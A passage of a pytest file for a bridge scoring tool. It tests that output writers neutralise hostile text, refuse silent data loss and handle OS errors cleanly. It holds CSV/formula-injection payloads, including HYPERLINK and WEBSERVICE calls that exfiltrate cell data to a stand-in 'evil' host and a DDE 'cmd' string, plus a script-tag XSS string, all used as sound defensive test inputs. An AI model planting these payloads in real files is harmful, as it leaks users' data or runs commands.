"""Nothing lost, nothing injected (issue 14): hostile text through every writer, silent losses refused,
OS refusals as one-line messages. Tables of input and expected outcome."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from mpxl.cli import main
from mpxl.core.event import Event, Line, Pair
from mpxl.core.session import score_event
from mpxl.formats import read_event, write_event

#: Text a spreadsheet would take for a formula, or a writer for syntax (OWASP CSV injection and more).
HOSTILE = [
    "=2+5", "+1", "-x", "@SUM(A1)", '=HYPERLINK("http://evil/?"&A1,"x")', "=cmd|' /C calc'!A0",
    'A"B', "<&>", "x'y", "'=q", "''+q", "#N/A", "back\\slash", "[Event", "{c}", "%p", ";s",
]


def hostile_event(text: str) -> Event:
    """An event where the title, a section, both pairs' labels and a player's name are ``text``."""
    lines = [Line(1, text, "2", text, score=420, contract="4S", declarer="N", tricks=10),
             Line(1, "3", "4", text, score=400), Line(2, text, "4", text, score=-50), Line(2, "3", "2", text, score=100)]
    pairs = [Pair(text, text, "NS", (text, "Bob")), Pair("3", text, "NS", ("Ann", "Cy")),
             Pair("2", text, "EW", ("Di", "Ed")), Pair("4", text, "EW", ("Fay", "Gus"))]
    return Event(lines=lines, pairs=pairs, title=text, winners={text: 2}, source="hostile")


def line_texts(ev: Event) -> list:
    return sorted((ln.board, ln.section, str(ln.ns_pair), str(ln.ew_pair)) for ln in ev.lines)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("ext", [".csv", ".xml", ".pbn"])
def test_hostile_text_reads_back_equal(text, ext, tmp_path):
    ev = hostile_event(text)
    out = tmp_path / f"out{ext}"
    write_event(score_event(ev), out)
    back = read_event(out)
    assert line_texts(back) == line_texts(ev)
    if ext != ".csv":  # the CSV holds no title
        assert back.title == text


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_are_neutralised(text, tmp_path):
    out = tmp_path / "out.csv"
    write_event(score_event(hostile_event(text)), out)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) > 1
    # only numbers may start so (scores such as -50)
    formula_like = [cell for row in rows[1:] for cell in row if cell and cell[0] in "=+-@\t\r" and not _number(cell)]
    assert formula_like == [], formula_like


def _number(text: str) -> bool:
    """``text`` reads as a number.

    >>> [_number(x) for x in ("-50", "+1", "=2+5", "-x")]
    [True, True, False, False]
    """
    try:
        float(text)
    except ValueError:
        return False
    return True


def _xlsx_cells(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", ["=2+5", '=WEBSERVICE("http://evil/?"&A1)', "@SUM(A1)", "#N/A", "+1", "-x"])
@pytest.mark.parametrize("values_only", [False, True])
def test_xlsx_holds_hostile_text_as_text(text, values_only, tmp_path, monkeypatch):
    from openpyxl import load_workbook

    from mpxl.commands import outputs
    from mpxl.workbook import event_writer

    if values_only:
        monkeypatch.setattr(event_writer, "unsupported", lambda result: "forced for the test")
    ev = hostile_event(text)
    ev.pairs = [Pair(p.number, p.section, p.direction, p.names, p.session) for p in ev.pairs]
    out = tmp_path / "out.xlsx"
    outputs.write_output(score_event(ev), str(out))
    wb = load_workbook(out)
    found = [c for ws in wb for row in ws.iter_rows() for c in row if c.value == text]
    assert found, "the text is in the workbook"
    assert all(c.data_type == "s" for c in found)
    if text.startswith("="):
        assert f"<f>{text[1:]}" not in _xlsx_cells(out)


@pytest.mark.parametrize("ext, text, message", [
    (".xlsx", "a\x01b", "U+0001"),
    (".xml", "a\x01b", "U+0001"),
    (".pbn", "A\nB", "U+000A"),
    (".pbn", "A\rB", "U+000D"),
])
def test_text_a_format_cannot_hold_is_refused_with_a_message(ext, text, message, tmp_path, capsys):
    src = tmp_path / "in.csv"
    src.write_text(f'board,ns_pair,ew_pair,section,ns_score\n1,"{text}",2,"{text}",420\n1,3,4,"{text}",400\n',
                   encoding="utf-8")
    out = tmp_path / f"out{ext}"
    assert main(["score", str(src), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert message in err and str(out) in err and "Traceback" not in err
    assert not out.exists()
    assert [p.name for p in tmp_path.iterdir()] == ["in.csv"]


def test_section_with_a_quote_to_xml_is_well_formed(tmp_path):
    out = tmp_path / "out.xml"
    write_event(score_event(hostile_event('A"B')), out)
    assert 'SECTION_ID="A&quot;B"' in out.read_text(encoding="utf-8")


def test_html_escapes_hostile_text(tmp_path):
    from mpxl.formats.report_html import results_html

    page = results_html(score_event(hostile_event('<script>alert("x")</script>')))
    assert "<script>alert" not in page


# ------------------------------------------------------------------ silent losses (items 1 and 2)

PBN_HEAD = '[Event "x"]\n[Board "1"]\n[ScoreTable "PairId_NS\\2R;PairId_EW\\2R;Score_NS\\6R"]\n'


@pytest.mark.parametrize("body, line, reason", [
    (PBN_HEAD + '1 2 420\n\n3 4 400\n', "line 6", "after the empty line on line 5"),
    (PBN_HEAD + '1 2 420\n\n\n5 6 400\n', "line 7", "after the empty line on line 5"),
    (PBN_HEAD + '1 2 420\n\n{ note }\n5 6 400\n', "line 7", "after the empty line on line 5"),
    (PBN_HEAD + '1 2 420\n[ScoreTable "PairId_NS\\2R;PairId_EW\\2R;Score_NS\\6R"]\n3 4 400\n', "line 5",
     "a second ScoreTable in one game (the first is on line 3)"),
    (PBN_HEAD + '1 2 420\n{ a note that never ends\n', "line 5", "never closed"),
    (PBN_HEAD + '1 2 420\n{ a note that never ends\n3 4 400\n', "line 5", "hides a row of the ScoreTable on line 6"),
    # a comment over lines inside a table, closed further down, that hides a row (found by the deep fuzz)
    (PBN_HEAD + '{ a note\n1 2 420\n{ a note }\n3 4 400\n', "line 4", "hides a row of the ScoreTable on line 5"),
    ('{ open\n\n[Event "x"]\n', "line 1", "hides the tag on line 3"),
    ('{ open\n', "line 1", "never closed"),
    # a comment over lines that takes the table's tag with it
    ('{ a note\n' + PBN_HEAD + '{ a note }\n1 2 420\n', "line 1", "hides the tag on line 2"),
    ('[Event "x"]\n[Board "1"]\n1 2 420\n', "line 3", "outside any table"),
])
def test_pbn_never_drops_rows_silently(body, line, reason, tmp_path, capsys):
    src = tmp_path / "in.pbn"
    src.write_text(body, encoding="utf-8")
    assert main(["score", str(src)]) == 2
    err = capsys.readouterr().err
    assert f"{src}: {line}: " in err and reason in err, err


@pytest.mark.parametrize("body, lines", [
    (PBN_HEAD + '1 2 420\n3 4 400\n\n[Event "x"]\n[Board "2"]\n', 2),  # an empty line between games
    (PBN_HEAD + '1 2 420\n{ a note\nover two lines }\n3 4 400\n', 2),  # a closed comment over lines
    ('[Event "x"]\n[Board "1"]\n\n' + PBN_HEAD[12:] + '1 2 420\n', 1),  # a game of tags only, then one
    (PBN_HEAD + '{ a note } 1 2 420\n{ over\ntwo lines } 3 4 400\n', 2),  # rows after a comment on their line
    (PBN_HEAD + '1 2 420\n[Auction "N"]\n1S Pass 2S Pass\n[Note "1:x"]\nPass Pass\n', 1),  # an auction section
])
def test_pbn_read_whole_where_the_standard_allows(body, lines, tmp_path):
    src = tmp_path / "in.pbn"
    src.write_text(body, encoding="utf-8")
    assert len(read_event(src).lines) == lines


@pytest.mark.parametrize("body, expected", [
    ("board,ns_pair,ew_pair,ns_score\n1,1,2,420\n1,3,4\n", "line 3: the row has 3 cells, the header names 4 (no ns_score)"),
    ("board,ns_pair,ew_pair,ns_score\n1,3,4\n1,1,2,420\n", "line 2: the row has 3 cells"),
    ("board;ns_pair;ew_pair;ns_score\n1;1;2;420\n1;3\n", "line 3: the row has 2 cells, the header names 4 (no ew_pair, ns_score)"),
    ("board,ns_pair,ew_pair,ns_score\n1,1,2,420\n1,3,4,400,7\n", "line 3: the row has 5 cells, the header names 4"),
    ("board,ns_pair,ew_pair,ns_score,contract,declarer,tricks\n1,1,2,420\n", "line 2: the row has 4 cells"),
])
def test_csv_short_and_long_rows_are_refused(body, expected, tmp_path, capsys):
    src = tmp_path / "in.csv"
    src.write_text(body, encoding="utf-8")
    assert main(["score", str(src)]) == 2
    assert f"{src}: {expected}" in capsys.readouterr().err


@pytest.mark.parametrize("body, lines", [
    ("board,ns_pair,ew_pair,ns_score\n1,1,2,420\n1,3,4,400,\n", 2),  # a blank cell past the header's end
    ("board,ns_pair,ew_pair,ns_score,\n1,1,2,420\n1,3,4,400\n", 2),  # a blank header cell at the end
    ("board,ns_pair,ew_pair,ns_score\n1,1,2,420\n\n1,3,4,\n", 2),  # a blank row; a board not played
])
def test_csv_rows_that_lose_nothing_are_read(body, lines, tmp_path):
    src = tmp_path / "in.csv"
    src.write_text(body, encoding="utf-8")
    assert len(read_event(src).lines) == lines


# ------------------------------------------------------------------ weighted scores in n log n (item 6)

from fractions import Fraction  # noqa: E402

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from mpxl.core.matchpoints import weighted_matchpoints  # noqa: E402


def quadratic_weighted(lines, scale=2):
    """Law 12C1(c) as written: every component against every component of every other line."""
    out = []
    for i, mine in enumerate(lines):
        if mine is None:
            out.append(None)
            continue
        total = Fraction(0)
        for j, theirs in enumerate(lines):
            if j != i and theirs is not None:
                for wa, a in mine:
                    for wb, b in theirs:
                        total += Fraction(wa) * Fraction(wb) * (2 if a > b else 1 if a == b else 0)
        out.append(total * scale / 2)
    return out


_score = st.sampled_from([-200, -50, 0, 100, 400, 420, 430, 450])


@st.composite
def weighted_line(draw):
    if draw(st.integers(0, 9)) == 0:
        return None
    k = draw(st.integers(1, 3))
    cuts = sorted(draw(st.lists(st.integers(1, 99), min_size=k - 1, max_size=k - 1, unique=True)))
    weights = [Fraction(b - a, 100) for a, b in zip([0] + cuts, cuts + [100])]
    return tuple((w, draw(_score)) for w in weights)


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.lists(weighted_line(), max_size=12), st.sampled_from([1, 2]))
def test_weighted_matchpoints_equal_the_quadratic_definition(lines, scale):
    assert weighted_matchpoints(lines, scale) == quadratic_weighted(lines, scale)


@pytest.mark.parametrize("lines, expected", [
    ([((Fraction(3, 10), 420), (Fraction(7, 10), 450)), ((1, 430),), ((1, 450),)],
     [Fraction(21, 10), Fraction(3, 5), Fraction(33, 10)]),
    ([((Fraction(1, 2), 420), (Fraction(1, 2), 420)), ((1, 420),)], [Fraction(1), Fraction(1)]),
    ([None, ((1, 100),)], [None, Fraction(0)]),
])
def test_weighted_matchpoints_table(lines, expected):
    assert weighted_matchpoints(lines) == expected == quadratic_weighted(lines)


# ------------------------------------------------------------------ the operating system's refusals (items 4, 9, 12)

import errno  # noqa: E402
import os  # noqa: E402
import signal  # noqa: E402

DATA = Path(__file__).parent / "data"
CSV_IN = str(DATA / "club-howell.csv")


def _commands(out: str) -> list:
    return {
        ".csv": ["score", CSV_IN, "-o", out], ".xml": ["score", CSV_IN, "-o", out],
        ".pbn": ["score", CSV_IN, "-o", out], ".html": ["score", CSV_IN, "-o", out],
        ".xlsx": ["score", CSV_IN, "-o", out], "template": ["template", "-o", out, "--tables", "3", "--boards", "3"],
        "study": ["study", CSV_IN, "--trials", "2", "--remove", "1", "-o", out], "demo": ["demo", "-o", out],
        "chart": ["methods", "9", "8", "--chart", out],
    }


WRITERS = [(".csv", "out.csv"), (".xml", "out.xml"), (".pbn", "out.pbn"), (".html", "out.html"), (".xlsx", "out.xlsx"),
           ("template", "t.xlsx"), ("study", "study.json"), ("demo", "demo.xlsx"), ("chart", "chart.png")]


def _run(command, out: Path, capsys) -> tuple:
    code = main(_commands(str(out))[command])
    err = capsys.readouterr().err
    return code, err


def _left(folder: Path) -> list:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


def _raise(exc):
    def fail(*args, **kwargs):
        raise exc
    return fail


#: The operating system's refusals a write meets, and the words its one-line message carries.
OS_REFUSALS = [
    ("disk full", "No space left on device"),
    ("permission denied", "Permission denied"),
    ("output is a folder", "is a folder"),
    ("name too long", "File name too long"),
    ("ctrl-c", "interrupted"),
    ("sigterm", "terminated"),
    ("sighup", "terminated"),  # the terminal closed
]


def _refuse_writes(refusal, monkeypatch):
    """Make mpxl.formats.atomic meet ``refusal`` (the refusals made by a path are the caller's to arrange)."""
    import mpxl.formats.atomic as atomic

    real_replace = os.replace
    if refusal == "disk full":
        monkeypatch.setattr(atomic.os, "replace", _raise(OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))))
    elif refusal == "permission denied":
        monkeypatch.setattr(atomic, "_open_new", _raise(PermissionError(errno.EACCES, os.strerror(errno.EACCES))))
    elif refusal == "ctrl-c":
        monkeypatch.setattr(atomic.os, "replace", _raise(KeyboardInterrupt()))
    elif refusal in ("sigterm", "sighup"):
        signum = signal.SIGTERM if refusal == "sigterm" else signal.SIGHUP

        def kill_then_replace(a, b):
            os.kill(os.getpid(), signum)
            real_replace(a, b)
        monkeypatch.setattr(atomic.os, "replace", kill_then_replace)


@pytest.mark.parametrize("command, name", WRITERS)
@pytest.mark.parametrize("refusal, expected", OS_REFUSALS)
def test_os_refusals_are_one_line_keep_the_old_file_and_leave_nothing(command, name, refusal, expected, tmp_path,
                                                                      capsys, monkeypatch):
    out = tmp_path / name
    out.write_bytes(b"old")
    _refuse_writes(refusal, monkeypatch)
    if refusal == "output is a folder":
        out.unlink()
        out.mkdir()
    elif refusal == "name too long":
        out = tmp_path / ("x" * 300 + Path(name).suffix)
    code, err = _run(command, out, capsys)
    assert code == {"ctrl-c": 130, "sigterm": 143, "sighup": 143}.get(refusal, 2), err
    assert expected in err and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    if refusal != "name too long" and out.is_file():
        assert out.read_bytes() == b"old"
    assert _left(tmp_path) == []
    assert signal.getsignal(signal.SIGTERM) is not None


@pytest.mark.parametrize("refusal, expected", OS_REFUSALS)
def test_lite_os_refusals_are_one_line_and_leave_nothing(refusal, expected, tmp_path, capsys, monkeypatch):
    """``mpxl lite -o DIR`` as every other writer: one line, the old main.py kept, no temporary file."""
    folder = tmp_path / "lite"
    folder.mkdir()
    (folder / "main.py").write_text("old")
    _refuse_writes(refusal, monkeypatch)
    if refusal == "output is a folder":
        (folder / "main.py").unlink()
        (folder / "main.py").mkdir()
    elif refusal == "name too long":
        folder = tmp_path / ("x" * 300)
    code = main(["lite", "-o", str(folder)])
    err = capsys.readouterr().err
    assert code == {"ctrl-c": 130, "sigterm": 143, "sighup": 143}.get(refusal, 2), err
    assert expected in err and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    if refusal != "name too long":
        if (folder / "main.py").is_file():
            assert (folder / "main.py").read_text() == "old"
        assert _left(folder) == []


@pytest.mark.parametrize("argv, signum, code, message", [
    (["score", "{big}", "-o", "{d}/out.html"], signal.SIGINT, 130, "interrupted"),
    (["score", "{big}", "-o", "{d}/out.xlsx"], signal.SIGTERM, 143, "terminated"),
    (["score", "{big}", "-o", "{d}/out.xml"], signal.SIGINT, 130, "interrupted"),
    (["score", "{big}", "-o", "{d}/out.pbn"], signal.SIGHUP, 143, "terminated"),
])
def test_a_real_signal_mid_write_leaves_one_line_the_old_file_and_nothing_else(argv, signum, code, message, tmp_path):
    """The command run as a user runs it, stopped by a real Ctrl-C (SIGINT) or SIGTERM once its
    temporary file exists: one line, exit 130 / 143, the old output whole, no temporary file."""
    import subprocess
    import sys
    import time

    out_dir = tmp_path / "out"
    out_dir.mkdir()
    # The signal must land while the temporary file exists: a run that writes faster than the test
    # sees it (or ends before the signal arrives) is tried again, then on an event twice the size. The
    # command runs niced, so that on a loaded machine (the suite's other workers) the test, watching,
    # is scheduled first the moment the file appears.
    for tables in (400, 400, 800, 800, 1600, 3200):
        big = tmp_path / "big.csv"
        rows = [f"{b},{t},{t + 10000},{(-50, 420, 400, 100, 140)[(b * t) % 5]}"
                for b in range(1, 61) for t in range(1, tables + 1)]
        big.write_text("board,ns_pair,ew_pair,ns_score\n" + "\n".join(rows) + "\n")
        args = [a.format(big=big, d=out_dir) for a in argv]
        target = Path(args[-1])
        target.write_bytes(b"old")
        proc = subprocess.Popen([sys.executable, "-m", "mpxl", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                preexec_fn=_as_a_user_runs_it)
        deadline = time.monotonic() + 120
        while proc.poll() is None and not _left(out_dir) and time.monotonic() < deadline:
            time.sleep(0.002)
        if proc.poll() is not None:
            continue  # ended before its temporary file was seen
        proc.send_signal(signum)
        _, err_bytes = proc.communicate(timeout=120)
        if proc.returncode == 0:
            continue  # ended before the signal arrived
        err = err_bytes.decode()
        assert proc.returncode == code, err
        assert message in err and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
        assert target.read_bytes() == b"old"
        assert _left(out_dir) == []
        return
    # On a loaded machine (the whole suite on two cores) no run may be caught mid-write: said, not failed;
    # test_a_ctrl_c_the_instant_the_temporary_file_is_made_leaves_nothing below checks the same clean-up
    # deterministically.
    pytest.skip("every run ended before a signal could land while its temporary file existed")


def _as_a_user_runs_it() -> None:
    """The child's start: Ctrl-C as a terminal gives it (its default, even where the test runner ignores it),
    and a lower priority, so that the test watching for its temporary file is scheduled first."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)
    os.nice(10)


def test_a_ctrl_c_the_instant_the_temporary_file_is_made_leaves_nothing(tmp_path, monkeypatch, capsys):
    """A signal may reach another thread than the main one, which no signal mask there holds back;
    Python then raises it in the main thread wherever that is: here the instant the temporary file
    exists, before the call that made it returns (the real-signal test above met it about once in
    twenty runs). Its name is known before it exists, so it is removed."""
    import mpxl.formats.atomic as atomic

    real = atomic._open_new

    def make_then_interrupt(path):
        real(path)
        raise KeyboardInterrupt

    monkeypatch.setattr(atomic, "_open_new", make_then_interrupt)
    out = tmp_path / "out.csv"
    out.write_text("old")
    assert main(["score", CSV_IN, "-o", str(out)]) == 130
    assert "interrupted" in capsys.readouterr().err
    assert out.read_text() == "old" and _left(tmp_path) == [] and not atomic.LIVE


@pytest.mark.parametrize("command, name", WRITERS)
def test_a_legal_249_character_name_is_written(command, name, tmp_path, capsys):
    out = tmp_path / ("x" * (249 - len(Path(name).suffix)) + Path(name).suffix)
    assert len(out.name) == 249
    code, err = _run(command, out, capsys)
    assert code == 0, err
    assert out.stat().st_size > 0 and _left(tmp_path) == []


def test_a_killed_run_s_temporary_files_are_removed_by_the_next_run(tmp_path, capsys):
    dead = 2**22 + 12345  # above the kernel's default pid_max: no such process
    leftovers = [f".mpxl-{dead}-abcdefgh.csv", f".mpxl-{dead}-abcd_fgh.xlsx.base-{dead}.xlsx"]
    keep = [f".mpxl-{os.getpid()}-abcdefgh.csv", ".mpxl-notes.txt", ".hidden"]
    for n in leftovers + keep:
        (tmp_path / n).write_text("x")
    assert main(["score", CSV_IN, "-o", str(tmp_path / "out.csv")]) == 0
    assert _left(tmp_path) == sorted(keep)


@pytest.mark.parametrize("argv, expected", [
    (["methods", "9", "8", "--chart", "{d}/results.xml"], "refusing to write a chart to a '.xml' file"),
    (["methods", "9", "8", "--chart", "{d}/chart.svg"], "expected a name ending in .png"),
    (["template", "-o", "{d}/x.csv"], "refusing to write a workbook to a '.csv' file"),
    (["demo", "-o", "{d}/x.pbn"], "refusing to write a workbook to a '.pbn' file"),
    (["template", "--teaching", "-o", "{d}/x"], "refusing to write a workbook to a name without an extension"),
    (["score", CSV_IN, "-o", "{d}/x.png"], "cannot write '.png'"),
])
def test_never_write_over_a_file_of_another_kind(argv, expected, tmp_path, capsys):
    argv = [a.format(d=tmp_path) for a in argv]
    target = Path(argv[-1])
    target.write_bytes(b"precious")
    assert main(argv) == 2
    assert expected in capsys.readouterr().err
    assert target.read_bytes() == b"precious"


# ------------------------------------------------------------------ devices (item 8)

@pytest.mark.parametrize("device, expected", [
    ("/dev/zero", "a device, not a results file"),
    ("/dev/urandom", "a device, not a results file"),
    ("/dev/null", "a device, not a results file"),
    ("fifo", "a FIFO (named pipe), not a results file"),
    ("folder", "a folder, not a results file"),
])
@pytest.mark.parametrize("ext", [".csv", ".xml", ".pbn"])
def test_devices_fifos_and_folders_are_refused_without_reading(device, expected, ext, tmp_path, capsys):
    link = tmp_path / f"in{ext}"
    if device == "fifo":
        os.mkfifo(link)  # no writer: a plain open() would wait forever
    elif device == "folder":
        link.mkdir()
    else:
        link.symlink_to(device)
    for argv in (["score", str(link)], ["check", str(link)], ["score", str(link), "-o", str(tmp_path / "o.csv")]):
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert f"{link}: {expected}" in err, err


def test_the_cap_does_not_trust_the_size_on_disk(tmp_path, monkeypatch, capsys):
    from mpxl.formats import common

    monkeypatch.setattr(common, "READ_CAP", 100)
    src = tmp_path / "in.csv"
    src.write_text("board,ns_pair,ew_pair,ns_score\n" + "1,1,2,420\n" * 20)
    assert main(["score", str(src)]) == 2
    assert "larger than the" in capsys.readouterr().err


# ------------------------------------------------------------------ messages with a place (item 10)

@pytest.mark.parametrize("figure", ["nan", "inf", "-inf", "1e400", "4_2"])
@pytest.mark.parametrize("fmt, body, place", [
    ("csv", "board,ns_pair,ew_pair,ns_score,ns_mp,ew_mp\n1,1,2,420,2,0\n1,3,4,400,{f},2\n", "line 3"),
    ("pbn", PBN_HEAD.replace('Score_NS\\6R"', 'Score_NS\\6R;MP_NS\\2R;MP_EW\\2R"') + "1 2 420 2 0\n3 4 400 {f} 2\n",
     "line 5"),
    ("xml", '<USEBIO Version="1.2"><EVENT><BOARD><BOARD_NUMBER>1</BOARD_NUMBER>'
     "<TRAVELLER_LINE><NS_PAIR_NUMBER>1</NS_PAIR_NUMBER><EW_PAIR_NUMBER>2</EW_PAIR_NUMBER><SCORE>420</SCORE>"
     "<NS_MATCH_POINTS>{f}</NS_MATCH_POINTS><EW_MATCH_POINTS>0</EW_MATCH_POINTS></TRAVELLER_LINE>"
     "</BOARD></EVENT></USEBIO>", "BOARD 1, TRAVELLER_LINE 1"),
])
def test_check_names_the_place_of_a_figure_that_is_not_a_number(figure, fmt, body, place, tmp_path, capsys):
    src = tmp_path / f"in.{fmt}"
    src.write_text(body.replace("{f}", figure), encoding="utf-8")
    assert main(["check", str(src)]) == 2
    err = capsys.readouterr().err
    assert f"{src}: {place}" in err and repr(figure) in err, err


# ------------------------------------------------------------------ one validation for every reader (item 11)

def _one_line_file(fmt: str, board: str, score: str) -> str:
    if fmt == "csv":
        return f"board,ns_pair,ew_pair,ns_score\n{board},1,2,{score}\n{board},3,4,400\n"
    if fmt == "pbn":
        return f'[Event "x"]\n[Board "{board}"]\n[ScoreTable "PairId_NS\\2R;PairId_EW\\2R;Score_NS\\6R"]\n' \
               f"1 2 {score}\n3 4 400\n"
    lines = "".join(f"<TRAVELLER_LINE><NS_PAIR_NUMBER>{ns}</NS_PAIR_NUMBER><EW_PAIR_NUMBER>{ew}</EW_PAIR_NUMBER>"
                    f"<SCORE>{s}</SCORE></TRAVELLER_LINE>" for ns, ew, s in (("1", "2", score), ("3", "4", "400")))
    return (f'<USEBIO Version="1.2"><EVENT><BOARD><BOARD_NUMBER>{board}</BOARD_NUMBER>{lines}</BOARD>'
            "</EVENT></USEBIO>")


@pytest.mark.parametrize("fmt", ["csv", "pbn", "xml"])
@pytest.mark.parametrize("board, score, expected", [
    ("0", "420", "'0' is not a board number"),
    ("-3", "420", "'-3' is not a board number"),
    ("1" + "0" * 30, "420", "is not a board number"),
    ("\u0661", "420", "is not a board number"),  # Arabic-Indic one
    ("1", "420.5", "'420.5' is not a score"),
    ("1", "1e300", "'1e300' is not a score"),
    ("1", "99999", "'99999' is not a score: no contract gives more than 7600"),
    ("1", "4_20", "'4_20' is not a score"),
    ("1", "\u0664\u0662\u0660", "is not a score"),  # Arabic-Indic 420
    ("1", "nan", "'nan' is not a score"),
])
def test_every_reader_refuses_the_same_boards_and_scores(fmt, board, score, expected, tmp_path, capsys):
    src = tmp_path / f"in.{fmt}"
    src.write_text(_one_line_file(fmt, board, score), encoding="utf-8")
    for argv in (["score", str(src)], ["score", str(src), "-o", str(tmp_path / "o.csv")]):
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert expected in err and str(src) in err, err


@pytest.mark.parametrize("fmt", ["csv", "pbn", "xml"])
@pytest.mark.parametrize("score, warned", [("7", True), ("425", True), ("-7600", False), ("420", False),
                                           ("0", False), ("-1100", False)])
def test_a_score_no_contract_gives_is_warned_about(fmt, score, warned, tmp_path, capsys):
    src = tmp_path / f"in.{fmt}"
    src.write_text(_one_line_file(fmt, "1", score), encoding="utf-8")
    for argv in (["score", str(src)], ["score", str(src), "-o", str(tmp_path / "o.csv")]):
        assert main(argv) == 0
        err = capsys.readouterr().err
        assert (f"warning: score {score} is not a score any contract gives" in err) is warned, err


@pytest.mark.parametrize("value, ok", [("1", True), ("2", True), (" 2 ", True), ("3", False), ("0", False),
                                       ("two", False)])
def test_usebio_winner_type(value, ok, tmp_path, capsys):
    src = tmp_path / "in.xml"
    src.write_text(_one_line_file("xml", "1", "420").replace("<EVENT>", f"<EVENT><WINNER_TYPE>{value}</WINNER_TYPE>"))
    assert main(["score", str(src)]) == (0 if ok else 2)
    if not ok:
        assert f"{value!r} is not a WINNER_TYPE" in capsys.readouterr().err


def test_an_option_is_checked_where_it_is_not_used(tmp_path, capsys):
    src = tmp_path / "in.csv"
    src.write_text(_one_line_file("csv", "1", "420"))  # no board fouled
    for out in ([], ["-o", str(tmp_path / "o.csv")]):
        assert main(["score", str(src), "--small-groups", "foo", *out]) == 2
        assert "'foo' is not a small-group rule" in capsys.readouterr().err


# --------------------------------------------------------------------------- memory (item 13)


def _plain_csv(path: Path, tables: int, boards: int = 24) -> None:
    """A plain CSV of travellers written table by table (as the bench's big file): one field."""
    scores = [420, 450, 400, -50, -100, 170, 140, -620, 630]
    with open(path, "w", encoding="utf-8") as f:
        f.write("board,ns_pair,ew_pair,ns_score\n")
        for t in range(tables):
            for b in range(1, boards + 1):
                f.write(f"{b},{t + 1},{tables + t + 1},{scores[(7 * t + 3 * b) % len(scores)]}\n")


def test_usebio_pbn_and_html_hold_a_board_not_the_output(tmp_path):
    """Item 13: writing .xml, .pbn and .html takes memory for a board, as the --json output does,
    not for every line and the whole text. Measured by tracemalloc (the peak of what Python
    allocates while writing, above the scored event), against --json's on the same event. Here the
    JSON takes 0.30 MB and the three writers 0.21 to 0.43 MB; the old writers (a Line and a
    ScoredLine per line, the whole text in memory) took 2.0 (.pbn), 9.1 (.xml) and 11.0 MB (.html),
    7 to 37 times the JSON's, a share that grows with the event."""
    import tracemalloc
    from functools import partial

    from mpxl.commands.outputs import write_json, write_output
    from mpxl.core.options import ScoringOptions
    from mpxl.core.scorer import score_columns
    from mpxl.core.session import SessionResult
    from mpxl.formats import read_travellers
    from mpxl.formats.csvcolumns import column_event

    src = tmp_path / "in.csv"
    _plain_csv(src, tables=250)  # 6,000 lines, 500 pairs: tracemalloc slows Python several times
    travellers = read_travellers(src)
    assert travellers is not None and len(travellers) == 6000
    event = column_event(travellers, str(src))
    assert event is not None
    result = SessionResult(event, ScoringOptions(), scored=score_columns(travellers, ScoringOptions(), event),
                           travellers=travellers)
    assert len(result.pairs) == 500  # totalled and ranked before measuring: every output needs them

    class Sink(io.StringIO):
        def write(self, text: str) -> int:  # the JSON thrown away as it is written, as a pipe takes it
            return len(text)

    def peak(write) -> int:
        tracemalloc.start()
        try:
            write()
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    writers = {ext: partial(write_output, result, str(tmp_path / f"out{ext}")) for ext in (".xml", ".pbn", ".html")}
    for write in (lambda: write_json(result, Sink()), *writers.values()):
        write()  # each writer's code loaded (where it is used) before measuring: the peak is the writing's
    json_peak = peak(lambda: write_json(result, Sink()))
    peaks = {ext: peak(write) for ext, write in writers.items()}
    sizes = {ext: (tmp_path / f"out{ext}").stat().st_size for ext in peaks}
    assert min(sizes[".xml"], sizes[".html"]) > 4 * json_peak  # a whole text would show
    for ext, used in peaks.items():
        assert used < 3 * json_peak, (ext, used, json_peak, peaks)


@pytest.mark.parametrize("ext, last, problem", [
    (".pbn", Line(2, "1", "2", "B\nC", score=50), "section 'B\\nC' holds a line end"),
    (".xml", Line(2, "1", "2", score=50, note="late\x01"), "U+0001"),
])
def test_a_refusal_after_boards_were_written_keeps_the_old_file(ext, last, problem, tmp_path):
    """The writers write a board at a time: text a format cannot hold on the last board is refused
    after the first boards went into the temporary file; the old output stays and no temporary is left."""
    from mpxl.commands.outputs import write_output
    from mpxl.core.errors import UserError

    out = tmp_path / f"out{ext}"
    out.write_text("the old results\n", encoding="utf-8")
    lines = [Line(1, str(2 * t + 1), str(2 * t + 2), score=(420, 400, -50)[t % 3]) for t in range(3000)] + [last]
    with pytest.raises(UserError, match="cannot hold") as refused:
        write_output(score_event(Event(lines=lines)), str(out))
    assert problem in str(refused.value) and str(out) in str(refused.value)
    assert [p.name for p in tmp_path.iterdir()] == [out.name]
    assert out.read_text(encoding="utf-8") == "the old results\n"


@pytest.mark.parametrize("argv, name", [
    (["template", "--tables", "2", "--boards", "1"], "club-pairs.xlsx"),
    (["template", "--teaching"], "neuberg-teaching.xlsx"),
])
def test_template_keeps_a_file_of_its_default_name(tmp_path, monkeypatch, capsys, argv, name):
    """``mpxl template`` with no ``-o`` writes its default name, never over a file already there (last week's
    workbook, its results typed); ``-o`` naming the file replaces it, as every writer does."""
    monkeypatch.chdir(tmp_path)
    assert main(argv) == 0 and (tmp_path / name).read_bytes()[:2] == b"PK"  # the first time: written
    (tmp_path / name).write_bytes(b"last week's results")
    capsys.readouterr()
    assert main(argv) == 2
    assert (tmp_path / name).read_bytes() == b"last week's results"
    err = capsys.readouterr().err
    assert f"{name}: a file of that name is already here" in err and f"give -o {name} to replace it" in err
    assert main([*argv, "-o", name]) == 0 and (tmp_path / name).read_bytes()[:2] == b"PK"


@pytest.mark.parametrize("extra, named", [
